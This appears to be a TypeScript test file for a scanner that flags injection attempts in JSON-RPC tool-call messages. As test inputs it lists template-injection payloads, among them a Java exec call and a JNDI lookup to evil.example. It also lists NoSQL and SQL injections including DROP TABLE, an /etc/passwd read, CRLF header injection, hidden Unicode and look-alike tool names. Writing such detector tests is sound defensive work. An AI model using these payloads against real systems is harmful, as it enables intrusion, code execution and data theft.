import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readPosted } from '../wire/message.ts'
import { layersOf } from './layers.ts'
import { call, found, message, sure } from './request.fixture.ts'
import { findRequest, findingsMax } from './request.ts'

const none = { tools: () => undefined }

const cases: readonly (readonly [family: string | undefined, value: unknown, name?: string])[] = [
  ['template', '{{7*7}}'],
  ['template', "{{''.__class__.__mro__[1].__subclasses__()}}"],
  ['template', '${T(java.lang.Runtime).getRuntime().exec("id")}'],
  ['template', '${jndi:ldap://evil.example/a}'],
  ['template', "<%= system('id') %>"],
  [undefined, 'Hello {{name}}, order ${id}', 'template'],
  [undefined, '${env:HOME}'],
  ['nosql', { password: { $ne: null } }, 'user'],
  ['nosql', { $where: 'sleep(1)' }, 'filter'],
  [undefined, { age: { $gt: 5 } }, 'filter'],
  ['nosql', { password: { $ne: null } }, 'filter'],
  ['nosql', "'; return true; var x='"],
  ['nosql', '{"$gt": ""}'],
  ['hidden_text', 'x\u{e0041}\u{e0042}'],
  ['hidden_text', 'pay\u202etxt.exe'],
  ['hidden_text', 'a\u200b\u200b\u200bb'],
  ['hidden_text', '\u001b[31mred'],
  [undefined, '👩‍💻 and 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️'],
  [undefined, 'می‌خواهم'],
  [undefined, '\ufeffstart'],
  ['protocol', { ['__proto__']: 1, x: JSON.parse('{"__proto__":1}') }, 'options'],
  ['protocol', 'a\r\nSet-Cookie: x=1'],
]
for (const [family, value, name] of cases) {
  test(`${JSON.stringify(value)} under ${name ?? 'value'}: ${family ?? 'nothing'}`, () => {
    const seen = sure(found(value, name).findings)
    if (family === undefined) assert.deepEqual(seen, [])
    else
      assert.ok(
        seen.some((one) => one === family),
        JSON.stringify(seen),
      )
  })
}

test('a finding names its place from the root of the message, and no text of it', () => {
  const { findings } = found({ 'a/b': ["x'; DROP TABLE t; --"] }, 'deep')
  assert.deepEqual(findings, [
    {
      family: 'sql_injection',
      confidence: 'certain',
      at: '/params/arguments/deep/a~1b/0',
      what: 'stacked',
    },
  ])
})

test('keys are looked at as values are', () => {
  const { findings } = found({ "x' OR '1'='1": 1 })
  assert.equal(findings[0]?.at, "/params/arguments/value/x' OR '1'='1")
})

test('prompts, resources, completions and posted answers are looked at', () => {
  const attack = "x' OR '1'='1"
  for (const [value, at] of [
    [
      { method: 'prompts/get', params: { name: 'p', arguments: { a: attack } } },
      '/params/arguments/a',
    ],
    [{ method: 'resources/read', params: { uri: 'file:///etc/passwd' } }, '/params/uri'],
    [
      {
        method: 'completion/complete',
        params: { ref: {}, argument: { name: 'a', value: attack } },
      },
      '/params/argument/value',
    ],
    [{ result: { action: 'accept', content: { a: attack } } }, '/result/content/a'],
  ] as const) {
    const { findings } = findRequest(message({ jsonrpc: '2.0', id: 1, ...value }), none)
    assert.equal(findings[0]?.at, at)
  }
})

test('twins of known tools are found, and known tools pass', () => {
  const judged = (name: string, known: readonly string[] = ['execute_sql']): unknown =>
    findRequest(call({}, name), { ...none, known }).findings[0]?.what
  assert.equal(judged('execute_sql'), undefined)
  assert.equal(judged('execute_sqⅼ'), 'twin')
  assert.equal(judged('Execute_SQL'), 'twin')
  assert.equal(judged('ехecute_sql'), 'mixed_scripts')
  assert.equal(judged('execute\u200b_sql'), 'invisible_name')
  assert.equal(judged('other'), undefined)
})

test('SQL is what configuration, a known server, the name, or the text itself says', () => {
  const sqlOf = (
    tool: string,
    args: unknown,
    tools: (tool: string) => string | undefined = () => undefined,
  ): string[] => findRequest(call(args, tool), { tools }).sql.map(({ at }) => at)
  const text = 'SELECT 1 FROM t WHERE a = 1'
  assert.deepEqual(sqlOf('execute_sql', { sql: text }), ['/sql'])
  assert.deepEqual(sqlOf('execute_sql_2', { sql: text }), ['/sql'])
  assert.deepEqual(sqlOf('read_query', { query: text }), ['/query'])
  assert.deepEqual(sqlOf('anything', { sql: 'SELECT' }), ['/sql'])
  assert.deepEqual(sqlOf('anything', { whatever: text }), ['/whatever'])
  assert.deepEqual(
    sqlOf('run', { x: 'red shoes' }, () => 'x'),
    ['/x'],
  )
  assert.deepEqual(sqlOf('query', { query: 'red shoes' }), [])
  assert.deepEqual(sqlOf('send', { text: 'Select the best from our list' }), [])
})

test('there is an end to what one message tells', () => {
  const { findings } = found(Array.from({ length: 1000 }, () => "' OR '1'='1"))
  assert.equal(findings.length, findingsMax)
})

test('more values than are looked at are told', () => {
  const { findings } = found(Array.from({ length: 30_000 }, () => 'fine'))
  assert.deepEqual(
    findings.map(({ what }) => what),
    ['many_values'],
  )
})

test('deep arguments are told', () => {
  let value: unknown = 1
  for (let i = 0; i < 40; i++) value = [value]
  assert.equal(found(value).findings[0]?.what, 'deep')
})

test('a text that decodes to nothing else has one reading', () => {
  assert.equal(layersOf('plain words').length, 1)
  assert.equal(layersOf('100 %').length, 1)
  assert.deepEqual(
    layersOf('%2e%252e').map(({ text }) => text),
    ['%2e%252e', '.%2e', '..'],
  )
})

test('more text than anybody looks at in time is told, and the time is bounded', () => {
  const text = 'a%41%42;(select'.repeat(20)
  const many = Object.fromEntries(Array.from({ length: 8000 }, (_, i) => [`k${i}`, text]))
  const body = JSON.stringify({
    jsonrpc: '2.0',
    id: 1,
    method: 'tools/call',
    params: { name: 'x', arguments: many },
  })
  const posted = readPosted(Buffer.from(body), { bytesMax: 8_000_000, depthMax: 16 })
  assert.ok(posted.kind === 'one')
  const { findings } = findRequest(posted.message, { tools: () => undefined })
  assert.ok(
    findings.some(({ confidence, what }) => what === 'many_values' && confidence === 'high'),
  )
})

test('params of a method that nobody here knows are looked at whole', () => {
  const body =
    '{"jsonrpc":"2.0","id":1,"method":"sql/execute","params":{"statement":{"sql":"DELETE FROM cards"}}}'
  const posted = readPosted(Buffer.from(body), { bytesMax: 100_000, depthMax: 16 })
  assert.ok(posted.kind === 'one')
  const { sql } = findRequest(posted.message, { tools: () => undefined })
  assert.deepEqual(
    sql.map(({ text }) => text),
    ['DELETE FROM cards'],
  )
})
